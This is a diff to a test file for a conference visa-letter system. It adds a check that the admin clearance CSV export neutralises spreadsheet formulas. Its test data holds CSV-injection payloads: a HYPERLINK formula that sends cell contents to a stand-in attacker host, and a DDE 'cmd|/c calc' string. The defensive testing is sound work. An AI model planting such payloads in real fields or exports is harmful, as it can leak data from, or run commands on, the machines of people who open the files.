@@ -4,8 +4,10 @@
  * the verify page says valid, then revoked after a cancellation; the passport fields appear in
  * neither the registrations list nor its CSV; the stored record does not open without the key;
  * Indian registrants and passports expiring within six months of the conference are refused;
- * the clearance export is audited; the passport data is deleted 90 days after the conference.
+ * the clearance export is audited and neutralises formulas; the passport data is deleted 90 days
+ * after the conference.
  */
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import adminList from '../../netlify/functions/admin-visa-letters';
 import decide from '../../netlify/functions/admin-visa-letters-decide';
@@ -181,6 +183,20 @@ describe('visa invitation letters', () => {
     expect(exact.status, exact.text).toBe(200);
     // A second request while one is open says so.
     expect((await call(request, { body: passportOf(reg) })).status).toBe(409);
+  });
+
+  it('the clearance export neutralises formulas like every export: a passport name or paper title starting with = + - @ gets a leading quote', async () => {
+    const reg = await foreignDelegate('Greta');
+    const passportName = '=HYPERLINK("https://evil.example/?q="&A1,"Open")';
+    const paperTitle = '@SUM(1+1)*cmd|/c calc';
+    const asked = await call(request, { body: passportOf(reg, { passportName, paperTitle }) });
+    expect(asked.status, asked.text).toBe(200);
+    const csv = await call(clearance, { headers: await adminHeaders() });
+    const rows = parse(csv.text, { bom: true }) as string[][];
+    const row = rows.find((r) => r[0] === asked.body.reference)!;
+    expect(row[3]).toBe(`'${passportName}`);
+    expect(row[10]).toBe(`'${paperTitle}`);
+    expect(csv.text).toContain('\r\n');
   });
 
   it('rejects with a reason; the clearance export is admin-only and audited; passport data is deleted 90 days after the conference', async () => {
